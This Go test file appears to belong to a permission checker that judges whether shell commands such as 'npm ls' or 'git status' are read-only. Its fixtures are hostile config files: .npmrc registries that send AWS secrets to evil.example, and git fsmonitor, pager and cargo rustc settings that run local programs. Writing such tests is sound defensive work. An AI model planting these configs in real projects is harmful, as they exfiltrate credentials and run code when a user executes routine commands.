package shell

import (
	"strings"
	"testing"

	"github.com/permd/permd/decisions/effects"
	"github.com/permd/permd/decisions/effects/effectstest"
	"github.com/permd/permd/decisions/effects/fsfake"
	"github.com/permd/permd/decisions/effects/settings/settingstest"
)

// obeyTrials are projects with one file, each with the command that obeys it and
// whether the command is still read-only.
var obeyTrials = map[string]struct {
	file, text, command string
	want                bool
}{
	"npm: a registry that is given a variable": {".npmrc", "registry=http://evil.example/${AWS_SECRET_ACCESS_KEY}/\n", "npm ls", false},
	"npm: a key in escapes":                    {".npmrc", "\"regi\\u0073try\"=http://evil.example/\n", "npm ls", false},
	"npm: a key from a variable":               {".npmrc", "${X}=http://evil.example/\n", "npm ls", false},
	"npm: a scope's registry":                  {".npmrc", "@evil:registry=http://evil.example/\n", "npm ls", false},
	"npm: a section":                           {".npmrc", "[a]\nfund=true\n", "npm ls", false},
	"npm: a carriage return":                   {".npmrc", "fund=true\rregistry=http://evil.example/\n", "npm ls", false},
	"npm: a byte order mark":                   {".npmrc", "\ufefffund=true\n", "npm ls", false},
	"npm: a key twice":                         {".npmrc", "fund=true\nfund=false\n", "npm ls", false},
	"npm: a value in quotes":                   {".npmrc", "loglevel=\"silent\"\n", "npm ls", false},
	"npm: a variable in a plain value":         {".npmrc", "loglevel=${X}\n", "npm ls", false},
	"npm: a script's shell":                    {".npmrc", "script-shell=./x\n", "npm ls", false},
	"npm: a viewer":                            {".npmrc", "viewer=./x\n", "npm help", false},
	"npm: a token of another registry":         {".npmrc", "//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n", "npm ls", false},
	"npm: another secret as the token":         {".npmrc", "//registry.npmjs.org/:_authToken=${AWS_SECRET_ACCESS_KEY}\n", "npm ls", false},
	"npm: a folder above":                      {"../.npmrc", "prefix=./x\n", "npm ls", false},
	"npm: settings that are plain":             {".npmrc", "; ours\r\nsave-exact=true\r\nregistry=https://registry.npmjs.org/\r\n", "npm ls", true},
	"npm: the usual token":                     {".npmrc", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n", "npm ls", true},
	"npm: no settings":                         {"x", "", "npm ls", true},
	"npm: the version":                         {".npmrc", "node-options=--require ./x.js\n", "npm --version", false},

	"yarn: a release":           {".yarnrc.yml", "\"yarnP\\u0061th\": x.cjs\n", "yarn --version", false},
	"yarn: an alias":            {".yarnrc.yml", "nodeLinker: &a pnp\nnmMode: *a\n", "yarn --version", false},
	"yarn: a merged key":        {".yarnrc.yml", "<<: {yarnPath: x.cjs}\n", "yarn --version", false},
	"yarn: two documents":       {".yarnrc.yml", "nodeLinker: pnp\n---\nyarnPath: x.cjs\n", "yarn --version", false},
	"yarn: a tag":               {".yarnrc.yml", "nodeLinker: !!str pnp\n", "yarn --version", false},
	"yarn: a key twice":         {".yarnrc.yml", "nodeLinker: pnp\nnodeLinker: ./x\n", "yarn --version", false},
	"yarn: plain settings":      {".yarnrc.yml", "nodeLinker: node-modules\nenableTelemetry: false\n", "yarn --version", true},
	"yarn: another yarn":        {"package.json", `{"packageMan\u0061ger": "yarn@9.9.9"}`, "yarn --version", false},
	"yarn: its older format":    {".yarnrc.yml", "# yarn  lockfile v1\n# yarn lockfile v1\nnodeLinker: pnp\n", "yarn --version", false},
	"cargo: another command":    {".cargo/config.toml", "[alias]\ninfo = \"run\"\n", "cargo info x", false},
	"cargo: its tasks":          {".cargo/config.toml", "[alias]\nxtask = \"run\"\n", "cargo info x", true},
	"yarn: a key twice in JSON": {"package.json", `{"name": "a", "name": "b"}`, "yarn --version", false},
	"yarn: a plain package":     {"package.json", `{"name": "a", "scripts": {"test": "x"}, "dependencies": {"b": "1"}}`, "yarn --version", true},

	"cargo: a toolchain in escapes":  {"rust-toolchain.toml", "[toolchain]\n\"p\\u0061th\" = \"tools\"\n", "cargo --version", false},
	"cargo: a dotted key":            {"rust-toolchain.toml", "toolchain . path = \"tools\"\n", "cargo --version", false},
	"cargo: broken TOML":             {"rust-toolchain.toml", "[toolchain\n", "cargo --version", false},
	"cargo: a credential's program":  {".cargo/config.toml", "[registry]\nglobal-credential-providers = [\"./x\"]\n", "cargo search x", false},
	"cargo: a variable":              {".cargo/config.toml", "[env]\nX = \"1\"\n", "cargo search x", false},
	"cargo: another index":           {".cargo/config.toml", "[source.crates-io]\nreplace-with = \"x\"\n", "cargo search x", false},
	"cargo: an included file":        {".cargo/config.toml", "include = \"x.toml\"\n", "cargo --version", false},
	"cargo: how it prints":           {".cargo/config.toml", "[term]\ncolor = \"never\"\n", "cargo --version", true},
	"cargo: the older name of these": {".cargo/config", "[build]\nrustc = \"./x\"\n", "cargo --version", false},

	"go: a private host":            {"go.mod", "module x\n\ngo 1.22\n\nrequire evil.example/y v1.0.0\n", "go list -m all", false},
	"go: a host in its sums":        {"go.sum", "evil.example/y v1.0.0/go.mod h1:AAAA=\n", "go mod verify", false},
	"go: another toolchain":         {"go.mod", "module x\n\ngo 1.22\n\ntoolchain go1.22.1-evil\n", "go version", false},
	"go: a folder outside":          {"go.mod", "module x\n\ngo 1.22\n\nrequire github.com/y/z v1.0.0\n\nreplace github.com/y/z => ../../z\n", "go list ./...", false},
	"go: a module in another place": {"go.mod", "module x\n\ngo 1.22\n\nreplace github.com/y/z => evil.example/z v1.0.0\n", "go doc fmt", false},
	"go: another version's folder":  {"go.mod", "module x\n\ngo 1.22\n\nrequire evil.example/z v1.0.1\n\nreplace evil.example/z v1.0.0 => ./z\n", "go list -m all", false},
	"go: a folder of its own":       {"go.mod", "module x\n\ngo 1.22\n\nrequire evil.example/z v1.0.1\n\nreplace evil.example/z => ./z\n", "go list -m all", true},
	"go: a workspace":               {"go.work", "go 1.22\n\nuse ./a\n", "go list ./...", false},
	"go: a workspace above":         {"../go.work", "go 1.22\n", "go list ./...", false},
	"go: what is public":            {"go.mod", "module x\n\ngo 1.22.3\n\ntoolchain go1.23.0\n\nrequire github.com/y/z v1.0.0 // indirect\n", "go list ./...", true},
	"go: public sums":               {"go.sum", "github.com/y/z v1.0.0 h1:AAAA=\ngithub.com/y/z v1.0.0/go.mod h1:AAAA=\n", "go list -m all", true},

	"git: a split index":             {".git/sharedindex.e69de29bb2d1d6434b8b29ae775ad8c2e48c5391", "", "git status", false},
	"git: submodules of commits":     {".git/config", "[diff]\n\tsubmodule = diff\n", "git show HEAD~1", false},
	"git: submodules by an option":   {"README.md", "", "git log -p --submodule=diff", false},
	"git: a monitor":                 {".git/config", "[core]\n\tfsmonitor = ./x\n", "git status", false},
	"git: a pager":                   {".git/config", "[core]\n\tpager = ./x\n", "git log", false},
	"git: a driver":                  {".git/config", "[diff \"x\"]\n\ttextconv = ./x\n", "git diff", false},
	"git: an included file":          {".git/config", "[include]\n\tpath = ../x\n", "git status", false},
	"git: an old section":            {".git/config", "[core.x]\n\ta = 1\n", "git status", false},
	"git: a key behind a section":    {".git/config", "[core] fsmonitor = ./x\n", "git status", false},
	"git: a line that goes on":       {".git/config", "[user]\n\tname = a \\\n[core]\n\tfsmonitor = ./x\n", "git status", false},
	"git: a hook":                    {".git/hooks/post-index-change", "#!/bin/sh\n", "git status", false},
	"git: hooks outside":             {".git/config", "[core]\n\thooksPath = /tmp/x\n", "git status", false},
	"git: hooks of the project":      {".git/config", "[core]\n\thooksPath = .husky/_\n", "git status", true},
	"git: a remote and a branch":     {".git/config", "[remote \"origin\"]\n\turl = git@github.com:a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"a/b.c\"]\n\tremote = origin\n\tmerge = refs/heads/a\n", "git status", true},
	"git: another working tree":      {".git/config", "[core]\n\tworktree = /etc\n", "git status", false},
	"git: what is fetched on demand": {".git/config", "[remote \"origin\"]\n\tpromisor = true\n", "git log -p", false},

	"compose: a file to fetch":         {"compose.yaml", "\"incl\\u0075de\":\n  - https://evil.example/x.git\n", "docker compose ps", false},
	"compose: an alias":                {"compose.yaml", "x: &a {}\nservices:\n  a: *a\n", "docker compose ps", false},
	"compose: another file":            {".env", "COMPOSE_FILE=https://evil.example/x.git\n", "docker compose ps", false},
	"compose: a value of many lines":   {".env", "A=\"x\nCOMPOSE_FILE=y\n", "docker compose ps", false},
	"compose: variables":               {".env", "PORT=80\nexport A='b'\n", "docker compose ps", true},
	"dotnet: another SDK":              {"global.json", `{"sdk": {"p\u0061ths": ["./x"]}}`, "dotnet --version", false},
	"dotnet: a version":                {"global.json", `{"sdk": {"version": "8.0.100", "rollForward": "latestFeature"}}`, "dotnet --version", true},
	"asdf: a folder":                   {".tool-versions", "nodejs path:./x\n", "node --version", false},
	"asdf: a version":                  {".tool-versions", "nodejs 20.1.0\npython 3.12.0 system # ours\n", "node --version", true},
	"pyenv: another folder":            {".python-version", "../../x\n", "python3 --version", false},
	"pyenv: a version":                 {".python-version", "3.12\n", "python3 --version", true},
	"shellcheck: files of the script":  {".shellcheckrc", "external-sources=true\n", "shellcheck run.sh", false},
	"shellcheck: a rule":               {".shellcheckrc", "disable=SC1091\n", "shellcheck run.sh", true},
	"tofu: a program that has the key": {"main.tf", "", "tofu state list", false},
}

// TestObeyed begins with the rule that would have let each command pass: one
// that allows every run of it.
func TestObeyed(t *testing.T) {
	table := effectstest.Table(t)
	for name, c := range obeyTrials {
		t.Run(name, func(t *testing.T) {
			fs := effectstest.Files()
			fs.File(effectstest.Cwd+"/go.mod", "module x\n")
			fs.File(effectstest.Cwd+"/"+c.file, c.text)
			b := shellBuilder(table, fs)
			Text(b, c.command, effectstest.Cwd, "command")
			looks, unknown := false, false
			for _, e := range b.Effects {
				looks = looks || e.Run != nil && e.Run.Readonly
				unknown = unknown || e.Kind == effects.KindUnknown
			}
			if looks != c.want || c.want && unknown {
				t.Errorf("%s: read-only: %v, not understood: %v; want read-only: %v", c.command, looks, unknown, c.want)
			}
			if !c.want && !unknown && !strings.HasPrefix(c.command, "tofu") {
				t.Errorf("%s: a rule that allows the run would allow it", c.command)
			}
		})
	}
}

// TestObeyedSubmodules reads indexes of all versions that git writes.
func TestObeyedSubmodules(t *testing.T) {
	table := effectstest.Table(t)
	for _, index := range settingstest.GitIndexes(t) {
		for name, c := range map[string]struct {
			config string
			want   bool
		}{
			"plain":     {"[core]\n\tworktree = ../../../lib/sub\n", true},
			"a monitor": {"[core]\n\tfsmonitor = ./x\n", false},
		} {
			fs := effectstest.Files()
			fs.File(effectstest.Cwd+"/.git/index", string(index.Data))
			fs.File(effectstest.Cwd+"/.git/config", "[extensions]\n\tobjectFormat = "+index.Format+"\n")
			fs.File(effectstest.Cwd+"/lib/sub/.git", "gitdir: ../../.git/modules/lib/sub\n")
			fs.File(effectstest.Cwd+"/.git/modules/lib/sub/config", c.config)
			b := shellBuilder(table, fs)
			Text(b, "git status", effectstest.Cwd, "command")
			if got := b.Effects[0].Run.Readonly; got != c.want {
				t.Errorf("version %s, %s, %s: read-only: %v", index.Version, index.Format, name, got)
			}
		}
	}
}

func TestObeyedHome(t *testing.T) {
	table := effectstest.Table(t)
	for name, c := range map[string]struct {
		command string
		want    bool
	}{
		"what the person wrote":       {"npm ls", true},
		"what the call wrote":         {"cp a.txt ~/.npmrc && npm ls", false},
		"what the call may overwrite": {"git checkout x && npm ls", false},
		"git's own folder stays":      {"git checkout x && git status", true},
		"but what is written there":   {"cp a.txt .git/config && git status", false},
		"or with all of a folder":     {"cp -r docs .git && git status", false},
	} {
		fs := effectstest.Files()
		fs.File("/home/ana/.npmrc", "registry=https://corp.example/\nprefix=~/.npm-global\n")
		b := shellBuilder(table, fs)
		Text(b, c.command, effectstest.Cwd, "command")
		last := lastRun(b.Effects)
		if last == nil || last.Readonly != c.want {
			t.Errorf("%s: %s: %+v, want read-only: %v", name, c.command, last, c.want)
		}
	}
}

// TestObeyedFolders has commands that run in a folder with hostile files, which
// each names with another option.
func TestObeyedFolders(t *testing.T) {
	table := effectstest.Table(t)
	for command, want := range map[string]bool{
		"npm ls": true, "npm --prefix evil ls": false, "npm -C evil ls": false, "npm ls --prefix evil": false, "cd evil && npm ls": false,
		"git status": true, "git -C evil status": false, "git -C src status": true, "cargo -C evil search x": false, "go -C evil list ./...": false,
		"docker compose --project-directory evil ps": false, "docker compose -f evil/compose.yaml ps": false, "yarn --cwd evil --version": false,
	} {
		fs := effectstest.Files()
		for name, text := range map[string]string{
			".npmrc": "registry=http://evil.example/\n", ".cargo/config.toml": "[build]\nrustc = \"x\"\n", "go.mod": "module x\nrequire evil.example/x v1.0.0\n",
			".git/config": "[core]\n\tfsmonitor = x\n", "compose.yaml": "include: [x]\n",
		} {
			fs.File(effectstest.Cwd+"/evil/"+name, text)
		}
		b := shellBuilder(table, fs)
		Text(b, command, effectstest.Cwd, "command")
		last := lastRun(b.Effects)
		if last == nil || last.Readonly != want {
			t.Errorf("%s: %+v, want read-only: %v", command, last, want)
		}
	}
}

// A module that nobody serves publicly is harmless once it is in the person's
// cache: then nobody is asked for it.
func TestObeyedModuleCache(t *testing.T) {
	table := effectstest.Table(t)
	for _, cached := range []bool{false, true} {
		fs := effectstest.Files()
		fs.File(effectstest.Cwd+"/go.mod", "module x\n\ngo 1.22\n\nrequire corp.example/y v1.0.0\n")
		if cached {
			fs.File("/home/ana/go/pkg/mod/cache/download/corp.example/y/@v/v1.0.0.mod", "module corp.example/y\n")
		}
		b := shellBuilder(table, fs)
		Text(b, "go list ./...", effectstest.Cwd, "command")
		if b.Effects[0].Run.Readonly != cached {
			t.Errorf("cached: %v: %+v", cached, b.Effects[0].Run)
		}
	}
}

func TestSettingsFileIsBounded(t *testing.T) {
	table := effectstest.Table(t)
	fs := fsfake.New(effectstest.Cwd + "/.git/HEAD")
	fs.File(effectstest.Cwd+"/.npmrc", strings.Repeat("#", 64<<10))
	b := shellBuilder(table, fs)
	Text(b, "npm ls", effectstest.Cwd, "command")
	fs.File(effectstest.Cwd+"/.npmrc", strings.Repeat("#", 64<<10+1))
	c := shellBuilder(table, fs)
	Text(c, "npm ls", effectstest.Cwd, "command")
	if !b.Effects[0].Run.Readonly || c.Effects[0].Run.Readonly {
		t.Error("the size is not bounded")
	}
}
